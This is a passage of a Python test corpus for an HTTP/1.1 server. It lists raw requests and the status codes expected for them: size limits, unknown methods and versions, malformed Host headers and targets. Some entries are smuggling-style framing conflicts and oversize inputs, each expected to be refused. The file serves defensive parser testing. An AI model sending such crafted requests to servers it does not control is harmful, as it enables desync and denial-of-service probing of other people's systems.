        "limits: the longest request line": head(f"GET /{'a' * (MAX_REQUEST_LINE_BYTES - 14)} HTTP/1.1"),
        "limits: the most fields": head("GET / HTTP/1.1", *["X: 1"] * (MAX_HEADER_FIELDS - 1)),
        "limits: chunks of a byte": post(CHUNKED, body=b"1\r\na\r\n" * 1000 + LAST_CHUNK),
    }
    | {
        f"methods: {method}": head(f"{method} /x HTTP/1.1")
        for method in "GET HEAD POST PUT DELETE PATCH OPTIONS TRACE PROPFIND PURGE M-SEARCH QUERY".split()
    }
    | {f"targets: {target!r}": head(f"GET {target} HTTP/1.1") for target in TARGETS}
    | {f"fields: {field[:70]!r}": head("GET /x HTTP/1.1", field) for field in FIELDS}
)

CORPUS: Requests = {
    **{f"read as body: {name}": sent for name, sent in READ_AS_BODY.items()},
    **{f"answered last: {name}": sent for name, sent in ANSWERED_LAST.items()},
    **{f"refused: {name}": sent for name, sent in REFUSED.items()},
    **UNFINISHED,
    **{f"answered: {name}": sent for name, sent in ANSWERED.items()},
}


def line_of(length: int) -> str:
    """A request line of `length` bytes."""
    return f"GET /{'a' * (length - len('GET / HTTP/1.1'))} HTTP/1.1"


def fields_of(size: int) -> str:
    """A field that makes the header section, with Host, `size` bytes long."""
    return f"X: {'a' * (size - len('Host: asked.example') - len('X: ') - 4)}"


def chunked(*chunks: bytes) -> bytes:
    """A POST whose body comes in `chunks`."""
    body = b"".join(b"%x\r\n%b\r\n" % (len(chunk), chunk) for chunk in (*chunks, b""))
    return head("POST / HTTP/1.1", "Transfer-Encoding: chunked") + body


ANSWERED_AND_OPEN = {
    "a request": (head("GET / HTTP/1.1"), 302),
    "any method of the registry": (head("PROPFIND / HTTP/1.1"), 302),
    "HEAD": (head("HEAD / HTTP/1.1"), 302),
    "a pool's own status": (head("GET / HTTP/1.1", "X-Redirect-Pool-ID: pool-b"), 307),
    "absolute form": (head("GET http://asked.example/x HTTP/1.1"), 302),
    "a loop": (head("GET / HTTP/1.1", host="ORIGIN-1.:80"), 422),
    "a loop by absolute form": (head("GET http://origin-1/ HTTP/1.1"), 422),
    "OPTIONS *": (head("OPTIONS * HTTP/1.1"), 204),
    "the longest request line": (head(line_of(MAX_REQUEST_LINE_BYTES)), 302),
    "the largest header section": (head("GET / HTTP/1.1", fields_of(MAX_HEADER_BYTES)), 302),
    "the most fields": (head("GET / HTTP/1.1", *["X: 1"] * (MAX_HEADER_FIELDS - 1)), 302),
    "the longest body": (head("POST / HTTP/1.1", f"Content-Length: {MAX_BODY_BYTES}") + b"b" * MAX_BODY_BYTES, 302),
    "the longest chunked body": (chunked(b"b" * (MAX_BODY_BYTES - 1), b"b"), 302),
    "blanks behind a Host": (head("GET / HTTP/1.1", host="asked.example \t"), 302),
    "blanks behind a pool": (head("GET / HTTP/1.1", "X-Redirect-Pool-ID: \t pool-b \t"), 307),
    "blank lines before a request": (b"\r\n\r\n" + head("GET / HTTP/1.1"), 302),
}


ANSWERED_AND_CLOSED = {
    "HTTP/1.0": (head("GET / HTTP/1.0", host=None), 302),
    "Connection: close": (head("GET / HTTP/1.1", "Connection: close"), 302),
    "a body over the limit": (head("POST / HTTP/1.1", f"Content-Length: {MAX_BODY_BYTES + 1}"), 302),
    "a chunked body over the limit": (chunked(b"b" * MAX_BODY_BYTES, b"b"), 302),
    "Expect: 100-continue": (head("POST / HTTP/1.1", "Content-Length: 3", "Expect: 100-continue"), 302),
    "Upgrade": (head("GET / HTTP/1.1", "Connection: upgrade", "Upgrade: h2c"), 302),
    "a websocket": (head("GET / HTTP/1.1", "Connection: upgrade", "Upgrade: websocket"), 302),
    "no Host": (head("GET / HTTP/1.1", host=None), 400),
    "two Hosts": (head("GET / HTTP/1.1", "Host: asked.example"), 400),
    "an empty Host": (head("GET / HTTP/1.1", host=""), 400),
    "a Host with userinfo": (head("GET / HTTP/1.1", host="u@h"), 400),
    "a Host with a path": (head("GET / HTTP/1.1", host="h/x"), 400),
    "a Host with a comma": (head("GET / HTTP/1.1", host="h,i"), 400),
    "a Host with a blank": (head("GET / HTTP/1.1", host="h i"), 400),
    "a Host that is no UTF-8": (head("GET / HTTP/1.1", host="\xff"), 400),
    "CONNECT": (head("CONNECT asked.example:443 HTTP/1.1"), 400),
    "* with another method": (head("GET * HTTP/1.1"), 400),
    "a target of no form": (head("GET asked.example HTTP/1.1"), 400),
    "a target with another scheme": (head("GET ftp://asked.example/ HTTP/1.1"), 400),
    "a target with userinfo": (head("GET http://u@h/ HTTP/1.1"), 400),
    "raw high bytes in the target": (head("GET /\xff HTTP/1.1"), 400),
    "an unknown method": (head("BREW / HTTP/1.1"), 501),
    "a method in small letters": (head("get / HTTP/1.1"), 501),
    "a method that is longer than a known one": (head("GETT / HTTP/1.1"), 501),
    "an unknown method of another version": (head("BREW / HTTP/1.2"), 505),
    "an unknown method without Host": (head("BREW / HTTP/1.1", host=None), 400),
    "no HTTP": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400),
    "obsolete folding": (b"GET / HTTP/1.1\r\nHost: a\r\n b\r\n\r\n", 400),
    "bare line feeds": (b"GET / HTTP/1.1\nHost: a\n\n", 400),
    "a length beside a coding": (
        head("POST / HTTP/1.1", "Content-Length: 3", "Transfer-Encoding: chunked") + b"0\r\n\r\n",
        400,
    ),
    "two lengths": (head("POST / HTTP/1.1", "Content-Length: 3", "Content-Length: 4"), 400),
    "a length that is no number": (head("POST / HTTP/1.1", "Content-Length: 3, 3"), 400),
    "an unknown coding": (head("POST / HTTP/1.1", "Transfer-Encoding: gzip"), 400),
    "a bad chunk": (head("POST / HTTP/1.1", "Transfer-Encoding: chunked") + b"zz\r\n", 400),
    "a request line over the limit": (head(line_of(MAX_REQUEST_LINE_BYTES + 1)), 414),
    "a header section over the limit": (head("GET / HTTP/1.1", fields_of(MAX_HEADER_BYTES + 1)), 431),
    "a field without end": (b"GET / HTTP/1.1\r\nX: " + b"a" * 3 * MAX_HEADER_BYTES, 431),
    "blanks without end": (b"GET / HTTP/1.1\r\nX:" + b" " * 3 * MAX_HEADER_BYTES, 431),
    "too many fields": (head("GET / HTTP/1.1", *["X: 1"] * MAX_HEADER_FIELDS), 431),
    "too many trailers": (chunked()[:-2] + b"X: 1\r\n" * MAX_HEADER_FIELDS + b"\r\n", 431),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505),
    "HTTP/2.0 in HTTP/1 framing": (head("GET / HTTP/2.0"), 505),
    "HTTP/1.2": (head("GET / HTTP/1.2"), 505),
    "HTTP/0.9": (head("GET / HTTP/0.9"), 505),
    "a version without its minor number": (head("GET / HTTP/0"), 400),
    "RTSP": (head("DESCRIBE /x RTSP/1.0"), 505),
    "ICE": (head("SOURCE /x ICE/1.0"), 505),
    "line ends without end": (b"\r\n" * MAX_HEADER_BYTES, 431),
}
